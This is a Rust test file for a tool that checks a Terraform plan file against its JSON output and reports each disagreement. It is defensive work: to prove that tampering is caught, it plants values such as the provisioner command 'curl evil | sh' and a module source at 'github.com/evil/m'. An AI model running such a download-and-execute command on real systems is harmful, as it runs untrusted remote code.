//! That what one says and the other does not is named.

use countersign_plan::planfile::{Kind, Part, Unread};
use serde_json::{Value, json};

use crate::world::{LOOKED, MAIN, World, looked, told};
use crate::writer::{Message, dynamic, entry, packed_value};

/// The world with its JSON changed at one place; says what is told of it.
fn forged(pointer: &str, value: Value) -> Vec<String> {
    let mut world = World::new();
    *world.json.pointer_mut(pointer).unwrap() = value;
    let agreement = world.compare();
    assert!(agreement.agreed().is_none(), "{pointer}");
    told(&agreement)
}

#[test]
fn a_file_and_its_json_agree() {
    let world = World::new();
    let agreement = world.compare();
    assert_eq!(told(&agreement), [""; 0]);
    let agreed = agreement.agreed().unwrap();
    assert_eq!(agreed.file(), world.read().unwrap().digest());
}

#[test]
fn a_value_that_is_shown_in_another_way_is_named() {
    assert_eq!(
        forged("/resource_changes/0/change/after/name", json!("harmless")),
        ["Change Differs x_thing.a[0] change.after.name"]
    );
    assert_eq!(
        forged("/resource_changes/0/change/after/size", json!(1.50001)),
        ["Change Differs x_thing.a[0] change.after.size"]
    );
    assert_eq!(
        forged("/resource_changes/0/change/after/any/1", json!("1")),
        ["Change Differs x_thing.a[0] change.after.any.1"]
    );
    assert_eq!(
        forged("/resource_changes/1/change/actions", json!(["create", "delete"])),
        ["Change Differs x_thing.b[\"k\"] change.actions.0", "Change Differs x_thing.b[\"k\"] change.actions.1"]
    );
}

#[test]
fn a_change_that_only_one_of_them_has_is_named() {
    let mut world = World::new();
    world.json["resource_changes"].as_array_mut().unwrap().remove(0);
    assert_eq!(told(&world.compare()), ["Change OnlyInFile x_thing.a[0] "]);
    let mut world = World::new();
    world.changes.remove(0);
    assert!(told(&world.compare()).contains(&"Change OnlyInJson x_thing.a[0] ".to_owned()));
    let mut world = World::new();
    let again = world.changes[0].clone();
    world.changes.push(again);
    assert!(world.compare().differences.iter().any(|it| it.part == Part::Change && it.kind == Kind::Twice));
    let mut world = World::new();
    let again = world.json["resource_changes"][0].clone();
    world.json["resource_changes"].as_array_mut().unwrap().push(again);
    assert_eq!(told(&world.compare()), ["Change Twice x_thing.a[0] "]);
}

#[test]
fn marks_that_only_one_of_them_has_are_named() {
    assert_eq!(
        forged("/resource_changes/0/change/after_sensitive/token", json!(false)),
        ["Change Differs x_thing.a[0] change.after_sensitive.token"]
    );
    // What neither the file nor the schema marks is no secret: to hide it would hide a change.
    assert_eq!(
        forged("/resource_changes/0/change/after_sensitive/tags", json!(true)),
        ["Change Differs x_thing.a[0] change.after_sensitive.tags"]
    );
}

#[test]
fn a_key_that_stands_twice_is_named() {
    let world = World::new();
    let text = world.json.to_string();
    let file = world.read().unwrap();
    for (from, to) in [
        (r#""name":"a","names""#, r#""name":"b","name":"a","names""#),
        (r#""errored":false"#, r#""errored":true,"errored":false"#),
        (r#""constant_value":"echo harmless""#, r#""constant_value":"x","constant_value":"echo harmless""#),
    ] {
        let twice = text.replacen(from, to, 1);
        assert_ne!(twice, text, "{from}");
        let agreement = crate::world::agreement(&file, &twice);
        assert!(agreement.differences.iter().any(|it| it.kind == Kind::Twice), "{from}");
    }
    for around in [format!("::debug::x\n{text}"), format!("{text}\n::x")] {
        assert!(crate::world::agreement(&file, &around).agreed().is_none());
    }
}

/// What is told of the world with its JSON changed by hand.
fn after(change: impl FnOnce(&mut Value)) -> Vec<String> {
    let mut world = World::new();
    change(&mut world.json);
    told(&world.compare())
}

#[test]
fn a_key_that_stands_twice_in_a_change_is_named() {
    let world = World::new();
    let file = world.read().unwrap();
    for (section, part) in [("resource_changes", "Change"), ("resource_drift", "Drift")] {
        for key in ["actions", "before", "after", "after_unknown"] {
            let mut json = world.json.clone();
            let change = json[section].take().to_string();
            let twice = change.replacen(&format!("\"{key}\":"), &format!("\"{key}\":null,\"{key}\":"), 1);
            let text = json.to_string().replacen(&format!("\"{section}\":null"), &format!("\"{section}\":{twice}"), 1);
            let told = told(&crate::world::agreement(&file, &text));
            assert!(told.iter().any(|it| it.starts_with(&format!("{part} Twice"))), "{section} {key}: {told:?}");
        }
    }
}

#[test]
fn values_that_are_planned_stand_once_in_their_module_and_for_a_change() {
    let resources = "/planned_values/root_module/resources";
    let list = |it: &mut Value| it.pointer_mut(resources).unwrap().as_array_mut().unwrap().clone();
    // The first of two is another one, so that it would be shown.
    let twice = after(|it| {
        let mut all = list(it);
        all.insert(0, all[0].clone());
        all[0]["values"]["name"] = json!("harmless");
        *it.pointer_mut(resources).unwrap() = json!(all);
    });
    assert_eq!(twice, ["PlannedValue Twice x_thing.a[0] "]);
    let more = after(|it| {
        let mut all = list(it);
        all.push(all[0].clone());
        all[2]["address"] = json!("x_thing.a[7]");
        *it.pointer_mut(resources).unwrap() = json!(all);
    });
    assert_eq!(more, ["PlannedValue OnlyInJson x_thing.a[7] "]);
    let elsewhere = after(|it| {
        let mut all = list(it);
        let moved = all.remove(0);
        it["planned_values"]["root_module"] =
            json!({"resources": all, "child_modules": [{"address": "module.m", "resources": [moved]}]});
    });
    assert_eq!(elsewhere, ["PlannedValue Differs x_thing.a[0] module"]);
    for address in ["", "m", "module.m.module.n", "x_thing.a"] {
        let child = json!([{"address": address, "resources": []}]);
        let told = after(|it| it["planned_values"]["root_module"]["child_modules"] = child);
        assert_eq!(told, [format!("PlannedValue Differs {address} module")]);
    }
    let none = after(|it| it["planned_values"]["root_module"] = json!(1));
    assert!(none.contains(&"PlannedValue Differs  ".to_owned()), "{none:?}");
}

#[test]
fn modules_that_only_one_of_them_has_are_named() {
    assert!(after(|it| it["configuration"] = json!(1)).contains(&"Configuration Differs  ".to_owned()));
    let mut world = World::new();
    let manifest = crate::world::MANIFEST.replacen('[', r#"[{"Key":"n","Source":"./n","Dir":"n"},"#, 1);
    with_file(&mut world, "tfconfig/modules.json", &manifest);
    world.entries.push(entry("tfconfig/m-n/inner.tf", ""));
    assert_eq!(told(&world.compare()), ["Configuration OnlyInFile n "]);
    let mut world = World::new();
    with_file(&mut world, "tfconfig/m-/main.tf", &format!("{MAIN}module \"n\" {{\n  source = \"./n\"\n}}\n"));
    world.json["configuration"]["root_module"]["module_calls"]["n"] = json!({"source": "./n", "module": {}});
    assert_eq!(told(&world.compare()), ["Configuration OnlyInJson module.n "]);
    let resources = "/configuration/root_module/resources";
    let twice = after(|it| {
        let all = it.pointer_mut(resources).unwrap().as_array_mut().unwrap();
        all.insert(0, all[0].clone());
        all[0]["provisioners"] = json!([]);
    });
    assert_eq!(twice, ["Configuration Twice x_thing.a "]);
    let twice = after(|it| {
        let all = it["configuration"]["root_module"]["actions"].as_array_mut().unwrap();
        all.push(all[0].clone());
    });
    assert_eq!(twice, ["Configuration Twice action.x_call.c "]);
    // Where a module comes from has to stand there.
    let mut world = World::new();
    with_file(&mut world, "tfconfig/m-/main.tf", &MAIN.replace("source = \"./m\"", "source = var.zone"));
    let told = told(&world.compare());
    assert!(told.iter().any(|it| it.contains("module.m") && !it.contains("Differs")), "{told:?}");
}

#[test]
fn what_calls_and_variables_say_is_held_against_their_files() {
    let with = |from: &str, to: &str, change: &dyn Fn(&mut Value)| {
        let mut world = World::new();
        assert!(MAIN.contains(from), "{from}");
        with_file(&mut world, "tfconfig/m-/main.tf", &MAIN.replacen(from, to, 1));
        change(&mut world.json["configuration"]["root_module"]);
        told(&world.compare())
    };
    let unread = |what: &str| format!("{:?}", Unread::Configuration { module: "".into(), what: what.into() });
    let as_it_is = |_: &mut Value| {};
    let source = "source = \"./m\"";
    let call = |more: &str| with(source, &format!("{source}\n  {more}"), &as_it_is);
    assert_eq!(call("version = \"1.0\""), ["Configuration Differs module.m version_constraint"]);
    assert_eq!(call("version = var.zone"), [unread("module.m")]);
    assert_eq!(call("providers = var.zone"), [unread("module.m providers")]);
    let version = |it: &mut Value| it["module_calls"]["m"]["version_constraint"] = json!("~> 1.0");
    assert_eq!(with(source, source, &version), ["Configuration Differs module.m version_constraint"]);
    let default = "default = \"east\"";
    assert_eq!(with(default, "default = f(1)", &as_it_is), [unread("var.zone")]);
    assert_eq!(with(default, "", &as_it_is), ["Configuration OnlyInJson var.zone default"]);
    let says = |text: &str| format!("default = \"east\"\n  description = {text}");
    let description = |it: &mut Value| it["variables"]["zone"]["description"] = json!("harmless");
    assert_eq!(with(default, &says("\"harmless\""), &description), [""; 0]);
    assert_eq!(with(default, &says("\"other\""), &description), ["Configuration Differs var.zone description"]);
    assert_eq!(with(default, default, &description), ["Configuration OnlyInJson var.zone description"]);
    assert_eq!(with(default, &says("f(1)"), &description), [unread("var.zone")]);
    assert_eq!(with("sensitive = true", "sensitive = var.zone", &as_it_is), [unread("output.o")]);
    for required in [true, false] {
        let required = |it: &mut Value| it["variables"]["zone"]["required"] = json!(required);
        assert_eq!(with(default, default, &required), ["Configuration Differs var.zone required"]);
    }
}

#[test]
fn what_resources_say_of_others_and_in_blocks_is_held_against_their_files() {
    let with = |from: &str, to: &str, at: &str, shown: Value| {
        let mut world = World::new();
        assert!(MAIN.contains(from), "{from}");
        with_file(&mut world, "tfconfig/m-/main.tf", &MAIN.replacen(from, to, 1));
        let (parent, name) = at.rsplit_once('/').unwrap();
        world.json.pointer_mut(&format!("/configuration/root_module/resources/{parent}")).unwrap()[name] = shown;
        told(&world.compare())
    };
    let unread = |what: &str| format!("{:?}", Unread::Configuration { module: "".into(), what: what.into() });
    let depends = |written: &str| {
        with("depends_on = [module.m]", &format!("depends_on = {written}"), "1/depends_on", json!(["module.m"]))
    };
    assert_eq!(depends("[module.m]"), [""; 0]);
    assert_eq!(depends("[module.n]"), ["Configuration Differs x_thing.b depends_on"]);
    assert_eq!(depends("[module.m, x_thing.a]"), ["Configuration Differs x_thing.b depends_on"]);
    for not_understood in ["var.zone", "[f(1)]"] {
        assert_eq!(depends(not_understood), [unread("x_thing.b")], "{not_understood}");
    }
    let count = with("for_each", "for_each", "1/count_expression", json!({"constant_value": 1}));
    assert_eq!(count, ["Configuration OnlyInJson x_thing.b count_expression"]);
    // A block that older providers take as an attribute, and one with a label.
    let rule = |written: &str, shown: Value| {
        with("rule {\n    port = 80", &format!("{written}\n    port = 80"), "0/expressions/rule", shown)
    };
    assert_eq!(rule("rule {", json!({"constant_value": [{"port": 80}]})), [""; 0]);
    let differs = "Configuration Differs x_thing.a expressions.rule";
    assert_eq!(rule("rule {", json!({"constant_value": [{"port": 81}]})), [differs]);
    let computed = with("port = 80", "port = 40 + 40", "0/expressions/rule", json!({"constant_value": [{"port": 81}]}));
    assert_eq!(computed, [unread("x_thing.a expressions.rule")]);
    let port = json!({"port": {"constant_value": 80}});
    assert_eq!(rule("rule \"x\" {", json!({"x": port})), [""; 0]);
    assert_eq!(rule("rule \"x\" {", json!({"x": port, "y": port})), [differs]);
    assert_eq!(rule("rule \"x\" {", json!({"y": port})), ["Configuration OnlyInFile x_thing.a expressions.rule.x"]);
    assert_eq!(rule("rule {", json!(1)), [differs]);
}

#[test]
fn what_was_asked_for_is_what_the_file_has() {
    let change = |edit: &dyn Fn(&mut World)| {
        let mut world = World::new();
        edit(&mut world);
        told(&world.compare())
    };
    assert_eq!(change(&|it| it.tail = it.tail.clone().number(17, 1)), ["Mode NotAsked  "]);
    assert_eq!(change(&|it| it.tail = it.tail.clone().bytes(5, "x_thing.c")), ["Targets NotAsked x_thing.c "]);
    assert_eq!(change(&|it| it.tail = it.tail.clone().bytes(32, "action.x.y")), ["Targets NotAsked action.x.y "]);
    assert_eq!(change(&|it| it.tail = it.tail.clone().bytes(16, "x_thing.c")), ["ForceReplace NotAsked x_thing.c "]);
    let backend = |kind: &str, config: Value, workspace: &str| {
        let mut world = World::new();
        // The backend stands last.
        let message = Message::new().bytes(1, kind).value(2, &packed_value(&config)).bytes(3, workspace);
        let mut tail = world.tail.0.clone();
        let at = tail.windows(2).rposition(|it| it == [13 << 3 | 2, u8::try_from(tail.len()).unwrap_or(0)]);
        let at = at.unwrap_or_else(|| tail.iter().rposition(|it| *it == 13 << 3 | 2).unwrap());
        tail.truncate(at);
        world.tail = Message(tail).message(13, &message);
        told(&world.compare())
    };
    assert_eq!(backend("local", json!({"path": "s.tfstate", "workspace_dir": null}), "default"), [""; 0]);
    assert_eq!(backend("s3", json!({"path": "s.tfstate"}), "default"), ["Backend NotAsked  type"]);
    assert_eq!(backend("local", json!({"path": "other"}), "default"), ["Backend NotAsked  path"]);
    assert_eq!(
        backend("local", json!({"path": "s.tfstate", "workspace_dir": "x"}), "default"),
        ["Backend NotAsked  workspace_dir"]
    );
    assert_eq!(backend("local", json!({}), "default"), ["Backend NotAsked  path"]);
    assert_eq!(backend("local", json!({"path": "s.tfstate"}), "stage"), ["Workspace NotAsked  "]);
}

#[test]
fn a_type_without_a_schema_leaves_the_check_open() {
    let world = World::new();
    let file = world.read().unwrap();
    let plan = countersign_plan::Plan::read(world.json.to_string().into_bytes()).unwrap();
    let asked = countersign_plan::planfile::Asked {
        tool_version: "1.14.0",
        mode: countersign_plan::Mode::Normal,
        targets: &["x_thing.a"],
        excludes: &[],
        force_replace: &["x_thing.b[\"k\"]"],
        backend: countersign_plan::planfile::AskedBackend { kind: "local", config: None, workspace: "default" },
        state: "",
        variables: &countersign_plan::planfile::Given::default(),
    };
    let none = countersign_plan::schema::Schemas::default();
    let agreement = countersign_plan::planfile::compare(&file, &plan, &none, &asked);
    assert!(agreement.agreed().is_none());
    assert!(agreement.unread.contains(&Unread::BackendSettings));
    assert!(agreement.unread.contains(&Unread::Schema { provider: "example.test/a/x".into(), kind: "x_thing".into() }));
}

#[test]
fn a_text_is_a_number_only_where_the_schema_says_so() {
    // A name that is the text "5" is not the number 5, and a list of two texts is no value with its type.
    let mut world = World::new();
    let mut text = packed_value(
        &json!({"any": null, "id": null, "name": "5", "names": [], "rule": [], "size": 1, "tags": null, "token": null}),
    );
    let create = |value: &[u8]| crate::world::resource("x_thing.n", &Message::new().number(1, 1).value(2, value));
    world.changes = vec![create(&text)];
    let shown = json!([{"address": "x_thing.n", "mode": "managed", "type": "x_thing", "name": "n", "provider_name": "example.test/a/x",
        "change": {"actions": ["create"], "before": null, "after": {"any": null, "id": null, "name": 5, "names": [], "rule": [], "size": 1, "tags": null, "token": null},
        "after_unknown": {}, "before_sensitive": false, "after_sensitive": {"names": [], "rule": [], "token": true}}}]);
    world.json["resource_changes"] = shown;
    assert!(told(&world.compare()).contains(&"Change Differs x_thing.n change.after.name".to_owned()));
    let pair = dynamic("\"string\"", &json!("y"));
    let names = text.windows(6).position(|it| it == b"\xa5names").unwrap() + 6;
    text.splice(names..=names, pair);
    world.changes = vec![create(&text)];
    assert!(told(&world.compare()).contains(&"Change Misfit x_thing.n ".to_owned()));
}

#[test]
fn another_configuration_of_the_same_provider_is_named() {
    let mut world = World::new();
    let with = |provider: &str| {
        let change = Message::new().number(1, 5).value(2, &[0xc0]);
        Message::new().bytes(8, provider).message(9, &change).bytes(13, "x_thing.a[1]")
    };
    world.changes.push(with("provider[\"example.test/a/x\"].prod"));
    let named = "Change Differs x_thing.a[1] provider".to_owned();
    assert!(told(&world.compare()).contains(&named));
    world.changes.pop();
    world.changes.push(with("provider[\"example.test/a/x\"]"));
    assert!(!told(&world.compare()).contains(&named));
    // What is not in the configuration goes with what made it.
    let mut world = World::new();
    let at = world.entries.iter().position(|it| it.name == "tfstate").unwrap();
    let state = String::from_utf8(world.entries[at].content.clone()).unwrap();
    world.entries[at] = entry("tfstate", state.replace("\"name\":\"b\"", "\"name\":\"z\""));
    let change = Message::new().number(1, 5).value(2, &[0xc0]);
    let gone = Message::new()
        .bytes(8, "provider[\"example.test/a/x\"].prod")
        .message(9, &change)
        .bytes(13, "x_thing.z[\"k\"]");
    world.changes.push(gone);
    assert!(told(&world.compare()).contains(&"Change Differs x_thing.z[\"k\"] provider".to_owned()));
}

#[test]
fn a_program_that_is_shown_in_another_way_is_named() {
    let command = "/configuration/root_module/resources/0/provisioners/0/expressions/command/constant_value";
    assert_eq!(forged(command, json!("echo nothing")), ["Configuration Differs x_thing.a provisioners.0.command"]);
    let file = |from: &str, to: &str| {
        let mut world = World::new();
        let at = world.entries.iter().position(|it| it.name == "tfconfig/m-/main.tf").unwrap();
        world.entries[at] = entry("tfconfig/m-/main.tf", MAIN.replacen(from, to, 1));
        told(&world.compare())
    };
    assert_eq!(file("echo harmless", "curl evil | sh"), ["Configuration Differs x_thing.a provisioners.0.command"]);
    assert_eq!(
        file("\"echo harmless\"", "<<-EOT\n  echo evil\n  EOT"),
        ["Configuration Differs x_thing.a provisioners.0.command"]
    );
    assert_eq!(file("\"echo harmless\"", "file(\"evil\")"), ["Configuration Differs x_thing.a provisioners.0.command"]);
    assert_eq!(file("local-exec", "remote-exec"), ["Configuration Differs x_thing.a provisioners.0"]);
    assert_eq!(file("\"./m\"", "\"github.com/evil/m\""), ["Configuration Differs module.m source"]);
    assert_eq!(file("sensitive = true", "sensitive = false"), ["Configuration Differs output.o sensitive"]);
    assert_eq!(file("var.zone", "\"west\""), ["Configuration Differs provider.x.east expressions.zone"]);
    assert_eq!(file("count = 1", "count = 2"), ["Configuration Differs x_thing.a count_expression"]);
    assert_eq!(file("resource \"x_thing\" \"b\"", "resource \"x_thing\" \"c\"").len(), 2);
    let more = "provisioner \"local-exec\" {\n    command = \"evil\"\n  }\n  provisioner";
    assert_eq!(file("provisioner", more).len(), 2);
}

#[test]
fn files_that_override_and_files_in_json_count_as_the_tool_reads_them() {
    let with = |name: &str, content: &str| {
        let mut world = World::new();
        world.entries.push(entry(&format!("tfconfig/m-/{name}"), content));
        told(&world.compare())
    };
    assert_eq!(with("override.tf", ""), [""; 0]);
    assert_eq!(with("more.tf.json", "{}"), [""; 0]);
    assert_eq!(
        with("x_override.tf", "resource \"x_thing\" \"a\" {\n  name = \"evil\"\n}\n"),
        ["Configuration Differs x_thing.a expressions.name"]
    );
    assert_eq!(
        with(
            "x_override.tf",
            "resource \"x_thing\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"evil\"\n  }\n}\n"
        ),
        ["Configuration Differs x_thing.a provisioners.0.command"]
    );
    let override_in_json = r#"{"resource":{"x_thing":{"a":{"provisioner":{"local-exec":{"command":"evil"}}}}}}"#;
    assert_eq!(
        with("y_override.tf.json", override_in_json),
        ["Configuration Differs x_thing.a provisioners.0.command"]
    );
    let more = r#"{"resource":{"x_thing":{"z":{"name":"${x_thing.a[0].id}"}}}}"#;
    assert_eq!(with("more.tf.json", more), ["Configuration OnlyInFile x_thing.z "]);
}

#[test]
fn configuration_that_is_not_understood_leaves_the_check_open() {
    for (name, content) in [
        ("override.tf", "resource \"x_thing\" \"nowhere\" {\n}\n".to_owned()),
        ("more.tf.json", "{\"resource\":[1]}".to_owned()),
        ("twice.tf.json", "{\"variable\":{},\"variable\":{}}".to_owned()),
        ("deep.tf", format!("locals {{\n  x = {}1{}\n}}\n", "(".repeat(100_000), ")".repeat(100_000))),
        ("commented.tf", format!("locals {{\n  x = {}1{}\n}}\n", "(/*)*/".repeat(100_000), ")".repeat(100_000))),
        ("conditions.tf", format!("locals {{\n  x = {}1\n}}\n", "a ? b : ".repeat(100_000))),
        (
            "directives.tf",
            format!("locals {{\n  x = \"{}{}\"\n}}\n", "%{if a}".repeat(50_000), "%{endif}".repeat(50_000)),
        ),
        ("signs.tf", format!("locals {{\n  x = {}true\n}}\n", "!".repeat(100_000))),
        ("damaged.tf", "resource {".to_owned()),
    ] {
        let mut world = World::new();
        world.entries.push(entry(&format!("tfconfig/m-/{name}"), content));
        let agreement = world.compare();
        assert!(agreement.agreed().is_none(), "{name}");
        assert_eq!(agreement.unread, [Unread::Configuration { module: "".into(), what: name.into() }], "{name}");
    }
    let mut world = World::new();
    let at = world.entries.iter().position(|it| it.name == "tfconfig/m-/main.tf").unwrap();
    // With a condition the value is made here as well, so that another one is seen.
    let computed = MAIN.replacen("\"echo harmless\"", "true ? \"evil\" : \"echo harmless\"", 1);
    world.entries[at] = entry("tfconfig/m-/main.tf", computed);
    assert!(world.compare().agreed().is_none());
}

/// The world with another text in one of its files.
fn with_file(world: &mut World, name: &str, content: &str) {
    let at = world.entries.iter().position(|it| it.name == name).unwrap();
    world.entries[at] = entry(name, content.to_owned());
}

const GIVEN: &str = "source = \"./m\"\n  providers = { x = x.east }";

#[test]
fn another_configuration_than_a_module_is_given_is_named() {
    let with = |main: &str, inner: &str, provider: &str| {
        let mut world = World::new();
        with_file(&mut world, "tfconfig/m-/main.tf", main);
        let needs = "terraform {\n required_providers {\n x = { source = \"example.test/a/x\" }\n }\n}\n";
        with_file(&mut world, "tfconfig/m-m/inner.tf", &format!("variable \"text\" {{}}\n{needs}{inner}"));
        let change = Message::new().number(1, 1).value(2, &[0xc0]);
        world.changes.push(Message::new().bytes(8, provider).message(9, &change).bytes(13, "module.m.x_thing.c"));
        told(&world.compare()).contains(&"Change Differs module.m.x_thing.c provider".to_owned())
    };
    let inner = "resource \"x_thing\" \"c\" {}\n";
    let given = MAIN.replace("source = \"./m\"", GIVEN);
    let root = |alias: &str| format!("provider[\"example.test/a/x\"]{alias}");
    // Nothing is given: the one without an alias comes from above, and no other.
    assert!(!with(MAIN, inner, &root("")));
    assert!(with(MAIN, inner, &root(".east")));
    assert!(with(MAIN, inner, &format!("module.m.{}", root(""))));
    assert!(!with(&given, inner, &root(".east")));
    assert!(with(&given, inner, &root("")));
    assert!(with(&given, inner, &root(".prod")));
    let own = format!("provider \"x\" {{\n zone = \"a\"\n}}\n{inner}");
    assert!(with(MAIN, &own, &root("")));
    assert!(!with(MAIN, &own, &format!("module.m.{}", root(""))));
}

#[test]
fn a_key_of_another_configuration_in_the_json_is_named() {
    let with = |key: &str| {
        let mut world = World::new();
        with_file(&mut world, "tfconfig/m-/main.tf", &MAIN.replace("source = \"./m\"", GIVEN));
        let needs = "terraform {\n required_providers {\n x = { source = \"example.test/a/x\" }\n }\n}\n";
        let inner = format!("variable \"text\" {{}}\n{needs}resource \"x_thing\" \"c\" {{}}\n");
        with_file(&mut world, "tfconfig/m-m/inner.tf", &inner);
        let resource = json!({"address": "x_thing.c", "mode": "managed", "type": "x_thing", "name": "c",
            "provider_config_key": key, "schema_version": 2});
        world.json["configuration"]["root_module"]["module_calls"]["m"]["module"]["resources"] = json!([resource]);
        told(&world.compare()).join("\n")
    };
    for key in ["x.east", "module.m:x"] {
        assert_eq!(with(key), "", "{key}");
    }
    for key in ["x", "module.m:x.east", "module.m.module.n:x", "y.east", "x.west", ""] {
        assert_eq!(with(key), "Configuration Differs module.m.x_thing.c provider_config_key", "{key}");
    }
}

#[test]
fn an_action_that_is_invoked_with_another_configuration_is_named() {
    let with = |main: &str| {
        let mut world = World::new();
        with_file(&mut world, "tfconfig/m-/main.tf", main);
        told(&world.compare())
    };
    assert_eq!(with(MAIN), [""; 0]);
    let other = MAIN.replace("\"x_call\" \"c\" {", "\"x_call\" \"c\" {\n  provider = x.east");
    assert!(with(&other).contains(&"Invocation Differs action.x_call.c provider".to_owned()));
    let gone = MAIN.replace("action \"x_call\" \"c\"", "action \"x_call\" \"d\"");
    assert!(with(&gone).contains(&"Invocation Differs action.x_call.c provider".to_owned()));
}

#[test]
fn what_goes_and_is_in_no_state_is_made_by_nobody_known() {
    let mut world = World::new();
    let change = Message::new().number(1, 5).value(2, &[0xc0]);
    let gone = Message::new().bytes(8, "provider[\"example.test/a/x\"]").message(9, &change).bytes(13, "x_thing.z");
    world.changes.push(gone);
    assert!(told(&world.compare()).contains(&"Change Differs x_thing.z provider".to_owned()));
}

const THING: &str = r#"{"id":"prod","name":"z","size":null,"tags":null,"names":null,"any":{"value":null,"type":"dynamic"},"token":null,"rule":[]}"#;

/// The world with one more object in its state, which goes; it is shown with this `id`.
fn with_destroyed(id: &str) -> World {
    let mut world = World::new();
    let at = world.entries.iter().position(|it| it.name == "tfstate").unwrap();
    let state = String::from_utf8(world.entries[at].content.clone()).unwrap();
    let more = format!(
        r#""resources":[{{"mode":"managed","type":"x_thing","name":"z","provider":"provider[\"example.test/a/x\"]",
            "instances":[{{"schema_version":2,"attributes":{THING}}}]}},"#
    );
    with_file(&mut world, "tfstate", &state.replacen("\"resources\":[", &more, 1));
    let shown = json!({"id": "prod", "name": "z", "size": null, "tags": null, "names": null, "any": null,
        "token": null, "rule": []});
    let printed = json!({"address": "x_thing.z", "mode": "managed", "type": "x_thing", "name": "z",
        "provider_name": "example.test/a/x", "schema_version": 2, "values": shown,
        "sensitive_values": {"rule": [], "token": true}});
    world.json["prior_state"]["values"]["root_module"]["resources"].as_array_mut().unwrap().push(printed);
    let mut before = shown;
    before["id"] = json!(id);
    let change = Message::new().number(1, 5).value(2, &packed_value(&before));
    world
        .changes
        .push(Message::new().bytes(8, "provider[\"example.test/a/x\"]").message(9, &change).bytes(13, "x_thing.z"));
    world.json["resource_changes"].as_array_mut().unwrap().push(json!({"address": "x_thing.z", "mode": "managed",
        "type": "x_thing", "name": "z", "provider_name": "example.test/a/x",
        "change": {"actions": ["delete"], "before": before, "after": null, "after_unknown": {},
            "before_sensitive": {"rule": [], "token": true}, "after_sensitive": false}}));
    world
}

/// What a look got, with the same object made by a configuration, and with an `id`.
fn look(provider: &str, id: &str) -> String {
    let thing = THING.replace("prod", id);
    LOOKED.replacen(
        "\"resources\":[",
        &format!(
            r#""resources":[{{"mode":"managed","type":"x_thing","name":"z","provider":"{provider}",
                "instances":[{{"schema_version":2,"attributes":{thing}}}]}},"#
        ),
        1,
    )
}

const MADE_BY: &str = r#"provider[\"example.test/a/x\"]"#;

#[test]
fn what_a_change_shows_as_before_is_what_stands_in_the_state() {
    let told = |id, stood| {
        let world = with_destroyed(id);
        told(&looked(&world.read().unwrap(), &world.json.to_string(), &look(MADE_BY, stood)))
    };
    assert_eq!(told("prod", "prod"), [""; 0]);
    assert_eq!(told("harmless", "prod"), ["Change Differs x_thing.z before.id"]);
    // What goes is shown as it stood before it was refreshed; what became of it then has to be told by the drift.
    assert_eq!(told("harmless", "harmless"), ["State Differs x_thing.z attributes"]);
}

#[test]
fn a_state_that_is_not_the_one_of_our_look_is_named() {
    let world = with_destroyed("prod");
    let file = world.read().unwrap();
    let told = |look: &str| told(&looked(&file, &world.json.to_string(), look));
    assert_eq!(told(&look(MADE_BY, "prod")), [""; 0]);
    // Made in another account, which no JSON tells.
    let other = MADE_BY.to_owned() + ".prod";
    assert_eq!(told(&look(&other, "prod")), ["State Differs x_thing.z provider"]);
    assert_eq!(told(&look(MADE_BY, "other")), ["State Differs x_thing.z attributes"]);
    // What is made up, and what is left out.
    assert_eq!(told(LOOKED), ["State OnlyInFile x_thing.z "]);
    let more = look(MADE_BY, "prod").replace("\"name\":\"old\"", "\"name\":\"lost\"");
    assert_eq!(told(&more), ["State Gone x_thing.lost "]);
    let tainted = look(MADE_BY, "prod").replace("\"schema_version\"", "\"status\":\"tainted\",\"schema_version\"");
    assert!(told(&tainted).contains(&"State Differs x_thing.z status".to_owned()));
    // One that two readers read differently, and none.
    let twice = look(MADE_BY, "prod").replacen("\"lineage\"", "\"resources\":[],\"lineage\"", 1);
    assert_eq!(told(&twice), ["State Misfit  "]);
    assert_eq!(told(" \n"), ["State OnlyInFile x_thing.z "]);
}

#[test]
fn a_value_that_became_another_one_has_to_be_told_by_the_drift() {
    let world = World::new();
    let file = world.read().unwrap();
    let told = |world: &World, look: &str| told(&looked(&world.read().unwrap(), &world.json.to_string(), look));
    // Its drift says that it was 2.
    assert_eq!(told(&world, LOOKED), [""; 0]);
    let other = LOOKED.replace("\"size\":\"2\"", "\"size\":4");
    assert_eq!(told(&world, &other), ["State Differs x_thing.b[\"k\"] attributes"]);
    assert!(file.drift().len() > 1);
    // In another order, a set is the same and a list is not.
    let two = LOOKED.replace("\"names\":[\"x\"]", "\"names\":[\"y\"]");
    assert_eq!(told(&world, &two), ["State Differs x_thing.b[\"k\"] attributes"]);
}
